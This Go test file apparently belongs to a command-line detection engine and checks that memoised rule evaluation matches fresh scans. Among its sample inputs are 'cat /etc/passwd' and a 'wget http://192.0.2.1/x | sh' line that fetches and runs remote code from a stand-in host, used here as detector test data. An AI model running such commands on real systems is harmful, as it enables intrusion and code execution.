package engine

import (
	"math/rand/v2"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"ttpctl/internal/event"
	"ttpctl/internal/rounds"
)

// A snapshot that has judged the lines before gives what a scan gives: tags, what
// is to say of the sessions, and the counts. The lines come with other directories
// and identities, and the states of rules expire meanwhile, forth and back.
func TestMemo(t *testing.T) {
	lines := append(benchCommands, "id", "id; ls", "ls", "cat /etc/passwd", "cd /tmp", "./f", "cp a /tmp/b", "true", strings.Repeat("sudo ", 30)+"id", strings.Repeat("eval ", 30)+"id")
	cut := 0
	// One rule looks at the user alone, and one at the user and the line.
	srcs := packOf(2, 1, 1)
	for i, match := range []string{"match: {field: user, equals: root}", "match: {all_of: [{field: user, equals: root}, {field: command_name, equals: ls}]}"} {
		text := strings.NewReplacer("match: {contains: probe}", match, "R000", "R900", "name: probe_", "name: other_").Replace(string(srcs[i].Data))
		srcs[i] = Source{Name: strings.Replace(srcs[i].Name, "R000", "R900", 1), Data: []byte(text)}
	}
	rs := mustCompile(t, append(fuzzRules(), srcs...))
	states := event.States{}
	for i, r := range rs.Rules() {
		if i%2 == 0 {
			states[r.ID] = event.State{Mode: event.Clipped, Max: 0.3, ExpiresAt: testNow.Add(time.Minute)}
		}
	}
	snaps := []*Snapshot{NewSnapshot(rs, states, testNow), NewSnapshot(rs, nil, testNow)}
	random := rand.New(rand.NewPCG(1, 2))
	old := NewScratch()
	known := 0
	n := rounds.Of(t, 800, 2_000)
	for i := range n {
		ev := commandEvent(lines[random.IntN(len(lines))])
		ev.SetField("pwd", event.StringValue([]string{"/tmp", "/root"}[random.IntN(2)]))
		ev.SetField("user", event.StringValue([]string{"root", "pi"}[random.IntN(2)]))
		if random.IntN(2) == 0 {
			ev.IdentityUUID = "i1"
		}
		s, now := snaps[i*4/n%2], testNow.Add(time.Duration(random.IntN(2))*time.Hour)
		fresh := NewScratch()
		*old = Scratch{memo: old.memo}
		if s.recall(ev, old) != nil {
			known++
		}
		got, want := s.Evaluate(nil, ev, now, old), s.Scan(nil, ev, now, fresh)
		cut += old.CutShort
		if d := rounds.Diff(want, got); d != "" {
			t.Fatalf("tags of %v differ (-new scratch +old):\n%s", ev, d)
		}
		if old.BelowFloor != fresh.BelowFloor || old.CutShort != fresh.CutShort || old.PanicCount != fresh.PanicCount {
			t.Fatalf("counts differ: %d %d %d, want %d %d %d", old.BelowFloor, old.CutShort, old.PanicCount, fresh.BelowFloor, fresh.CutShort, fresh.PanicCount)
		}
		told := cmp.Options{cmp.AllowUnexported(Sighting{}, told{}, stepHit{}, stepRef{}, place{}, bound{}, fileCopy{}), cmpopts.IgnoreFields(Sighting{}, "snap", "ev", "room")}
		if d := rounds.Diff(fresh.TakeSightings(nil), old.TakeSightings(nil), told); d != "" {
			t.Fatalf("what %v tells differs (-new scratch +old):\n%s", ev, d)
		}
	}
	if known < n/2 || cut == 0 {
		t.Errorf("of %d lines %d were known and %d cut short, want most and some: this test saw little", n, known, cut)
	}
}

// What does not fit into the bound, or is no text, is judged each time.
func TestMemoKeys(t *testing.T) {
	snap := NewSnapshot(mustCompile(t, generatedRules(25)), nil, testNow)
	for _, tt := range []struct {
		text string
		want bool
	}{{"true", true}, {"true " + string(make([]byte, maxMemoKey)), false}} {
		sc, known := NewScratch(), 0
		for range 5 {
			ev := commandEvent(tt.text)
			if snap.recall(ev, sc) != nil {
				known++
			}
			snap.Evaluate(nil, ev, testNow, sc)
		}
		if known > 0 != tt.want {
			t.Errorf("a line of %d bytes was known %d times of 5, want some: %v", len(tt.text), known, tt.want)
		}
	}
}

// Whoever judges under one snapshot shares what is remembered, and learns what a
// scan says.
func TestMemoFromManyGoroutines(t *testing.T) {
	snap := NewSnapshot(mustCompile(t, fuzzRules()), nil, testNow)
	lines := append(benchCommands, "id", "cat /etc/passwd", "wget http://192.0.2.1/x | sh", "true")
	want := make([][]event.Tag, len(lines))
	for i, line := range lines {
		want[i] = snap.Scan(nil, commandEvent(line), testNow, NewScratch())
	}
	var wg sync.WaitGroup
	for n := range 4 {
		wg.Go(func() {
			sc := NewScratch()
			for k := range 200 {
				i := (k*7 + n) % len(lines)
				if d := rounds.Diff(want[i], snap.Evaluate(nil, commandEvent(lines[i]), testNow, sc)); d != "" {
					t.Errorf("tags of %q differ (-scan +memo):\n%s", lines[i], d)
				}
			}
		})
	}
	wg.Wait()
}

// A text is known the second time, as long as what was learned is of use: of texts
// that never come again a goroutine learns no more than its advance.
func TestMemoLearnsAhead(t *testing.T) {
	snap, sc := NewSnapshot(mustCompile(t, generatedRules(25)), nil, testNow), NewScratch()
	ix := snap.ruleset.indexOf(event.KindCommand)
	judge := func(n int) { // and ask, whether that pays or not
		snap.rememberOrJudge(nil, commandEvent("echo "+strconv.Itoa(n)), testNow, sc, ix, true)
	}
	knows := func(n int) bool {
		o := snap.recall(commandEvent("echo "+strconv.Itoa(n)), &Scratch{})
		return o != nil
	}
	if judge(0); !knows(0) {
		t.Error("a text is not known that came once, and first")
	}
	for n := range 3 * memoAdvance {
		judge(n + 1)
	}
	// There is room for all of these: hardly any set has more of them than ways.
	known := func(from int) (count int) {
		for n := range memoAdvance / 2 {
			if knows(from + n) {
				count++
			}
		}
		return count
	}
	if early := known(1); early < memoAdvance/2*99/100 {
		t.Errorf("%d of %d early texts are known that came once", early, memoAdvance/2)
	}
	if late := known(2 * memoAdvance); late > 0 {
		t.Errorf("%d late texts are known that came once, want none", late)
	}
	if judge(3 * memoAdvance); !knows(3 * memoAdvance) {
		t.Error("a text is not known that came twice")
	}
	for range 10 {
		judge(3 * memoAdvance)
	}
	if judge(-1); !knows(-1) {
		t.Error("a text is not known that came once, behind one that was known")
	}
}
